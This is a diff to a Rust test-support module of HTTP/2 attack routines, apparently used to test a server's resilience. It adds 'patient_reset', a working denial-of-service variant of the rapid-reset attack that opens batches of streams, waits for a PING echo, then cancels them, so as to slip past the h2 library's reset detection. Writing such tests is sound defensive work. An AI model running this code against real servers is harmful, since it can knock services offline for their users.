@@ -9,7 +9,8 @@ use tokio::{
 };
 
 use crate::support::raw::{
-    CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame,
+    CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, PING, PREFACE, Peer, RST_STREAM, SETTINGS, frame,
+    get,
 };
 
 pub(super) type Attack = fn(SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>>;
@@ -56,6 +57,31 @@ pub(super) async fn rapid_reset(address: SocketAddr) {
         bytes
     })
     .await;
+}
+
+/// Cancels streams that the service has already been called for, so that `h2` finds nothing wrong with it.
+pub(super) async fn patient_reset(address: SocketAddr) {
+    let mut peer = Peer::greet(connect(address).await).await;
+    for batch in 0.. {
+        let streams = || (0..50_u32).map(|i| (batch * 50 + i) * 2 + 1);
+        let headers = streams().flat_map(|id| frame(HEADERS, END_HEADERS | END_STREAM, id, &get("/never")));
+        let bytes: Vec<u8> = headers.chain(frame(PING, 0, 0, b"attacker")).collect();
+        if peer.write(&bytes).await.is_err() {
+            return;
+        }
+        loop {
+            match peer.read().await {
+                None => return,
+                Some(frame) if frame.kind == PING => break,
+                Some(_) => {}
+            }
+        }
+        let resets: Vec<u8> =
+            streams().flat_map(|id| frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())).collect();
+        if peer.write(&resets).await.is_err() {
+            return;
+        }
+    }
 }
 
 pub(super) async fn continuation_flood(address: SocketAddr) {
